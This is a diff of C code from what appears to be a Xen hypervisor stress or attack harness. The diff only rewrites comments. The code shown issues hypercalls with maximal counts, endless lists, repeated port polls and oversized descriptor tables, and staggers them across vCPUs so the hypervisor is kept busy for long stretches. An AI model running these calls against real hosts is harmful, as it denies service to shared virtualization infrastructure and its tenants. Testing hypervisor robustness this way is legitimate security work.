@@ -1,6 +1,6 @@
 /*
- * Every call with a count, the largest count, and lists without end of which the entries are well-formed ("call" says which), again and
- * again. What it came to, if it came to anything, goes to Xen's log: some of them close the console's port.
+ * Makes one of the calls that take a count again and again, with the largest count and with endless lists of well-formed entries. The option "call"
+ * says which one. If the call comes to an end, its result goes to Xen's log, because some of these calls close the port of the console.
  */
 #include "attack.h"
 
@@ -19,10 +19,10 @@ static s64 multicall_of(u64 lists, struct multicall entry) {
     return hypercall(HYPERVISOR_multicall, lists, 0x0fffffff, 0, 0);
 }
 static s64 multicall(u64 lists) { return multicall_of(lists, (struct multicall){HYPERVISOR_xen_version, 0, {0}}); }
-/* Of calls that are long themselves. */
+/* A multicall of calls that are long themselves. */
 static s64 multicall_console(u64 lists) { return multicall_of(lists, (struct multicall){HYPERVISOR_console_io, 0, {0, 0x7fffffff, lists}}); }
 
-/* The M2P of one frame. */
+/* Updates the M2P entry of one frame. */
 static s64 mmu_update(u64 lists) {
     for (int i = 0; i < REPEATED / 2; i++) ((struct update *)repeated)[i] = (struct update){mfn_of(pool[0]) << 12 | 1, 1};
     return hypercall(HYPERVISOR_mmu_update, lists, 0x7fffffff, (u64)&done, DOMID_SELF);
@@ -33,7 +33,7 @@ static s64 extended(u64 lists, struct mmuext op) {
     return hypercall(HYPERVISOR_mmuext_op, lists, 0x7fffffff, (u64)&done, DOMID_SELF);
 }
 static s64 flush_all(u64 lists) { return extended(lists, (struct mmuext){MMUEXT_TLB_FLUSH_ALL, 0, 0, 0}); }
-/* Whose vCPUs a mask says. */
+/* The vCPUs that a mask names: all of them. */
 static u64 all_vcpus = ~0ul;
 static s64 flush_multi(u64 lists) { return extended(lists, (struct mmuext){8, 0, 0, (u64)&all_vcpus}); }
 static s64 invlpg_multi(u64 lists) { return extended(lists, (struct mmuext){9, 0, (u64)pool, (u64)&all_vcpus}); }
@@ -47,7 +47,7 @@ static s64 grant_copy(u64 lists) { return grant_op(5, (void *)lists, 0x7fffffff)
 static s64 grant_replace(u64 lists) { return grant_op(7, (void *)lists, 0x7fffffff); }
 static s64 grant_swap(u64 lists) { return grant_op(11, (void *)lists, 0x7fffffff); }
 
-/* The status, which is in the structure. */
+/* Returns the status, which is in the structure, if the call itself succeeded. */
 static s64 setup_table(u64 lists, u32 count) {
     struct { u16 domid; u16 pad; u32 count; short status; u64 list; } s = {DOMID_SELF, 0, count, 1, lists};
     s64 error = grant_op(2, &s, 1);
@@ -70,12 +70,12 @@ static s64 status_frames(u64 lists) {
     return error ? error : s.status;
 }
 
-/* Frames for which the domain has room: FREED of them, as many as the lists have different entries. */
+/* Makes room for FREED frames in the domain, as many as the lists have different entries. */
 static void make_room(void) {
     static int made;
     static u64 list[512];
     if (made++) return;
-    /* It may have a little more than it was begun with. */
+    /* The domain may have a little more memory than it began with. */
     while (reservation(0, list, 512, 0) > 0);
     memory_give(FREED);
 }
@@ -87,7 +87,8 @@ static s64 give_back(u64 lists, s64 got) {
     s64 given = reserve(XENMEM_decrease_reservation, lists);
     return given == got ? got : -1000000 - given;
 }
-/* All that it has room for; then all of it goes: behind the frames of which the lists are none is its own any more. */
+/* Takes all the frames that the domain has room for and then gives everything back. The lists go on after those frames, but none of the rest is a
+ * frame of the domain's any more. */
 static s64 increase(u64 lists) {
     make_room();
     return give_back(lists, reserve(0, lists));
@@ -120,7 +121,7 @@ static s64 machphys_mfn_list(u64 lists) {
     return memory_op(XENMEM_machphys_mfn_list, &m);
 }
 
-/* More ports than may be, of which one has no event again and again. */
+/* Polls more ports than may be polled. They all are the same port, which has no event. */
 static s64 poll_many(u64 lists) {
     struct { u32 vcpu, port; } ipi = {0, 0};
     event_op(EVTCHNOP_bind_ipi, &ipi);
@@ -131,7 +132,7 @@ static s64 poll_many(u64 lists) {
     return error;
 }
 
-/* As many ports as there can be, with words of the FIFO ABI for all of them; told of by none. Their number. */
+/* Resets as many ports as there can be, with words of the FIFO ABI for all of them but no event on any. Returns their number. */
 static s64 reset_fifo(u64 lists) {
     (void)lists;
     u64 frame = start_info->nr_pages - 1, ports = 0;
@@ -148,7 +149,7 @@ static s64 reset_fifo(u64 lists) {
     return error ? error : unbound.port;
 }
 
-/* A descriptor table of more pages than may be, an empty one again and again. */
+/* Sets a descriptor table of more pages than may be. They all are the same empty page. */
 static s64 set_gdt(u64 lists) {
     set_entry(pool[2], mfn_of(pool[2]) << 12 | PTE_RO, UVMF_INVLPG);
     for (int i = 0; i < REPEATED; i++) repeated[i] = mfn_of(pool[2]);
@@ -170,7 +171,7 @@ static const struct { const char *name; s64 (*make)(u64 lists); } calls[] = {
     {"reset_fifo", reset_fifo}, {"set_gdt", set_gdt}, {"set_trap_table", set_trap_table},
 };
 
-/* The other vCPUs begin the same call later, one after the other: what is long at the beginning of a call only is long again and again. */
+/* The other vCPUs begin the same call later, one after the other. So a call that is long only at its beginning is long again and again. */
 enum { APART_MS = 50 };
 static u64 same_lists;
 static s64 (*same_call)(u64 lists);
@@ -179,7 +180,7 @@ static void begin_later(u32 me) {
     for (;;) same_call(same_lists);
 }
 
-/* Says what the call came to when that changes. */
+/* Logs the result of the call whenever it changes. */
 void attack_calls(void) {
     u64 lists = endless();
     const char *name = option_text("call");
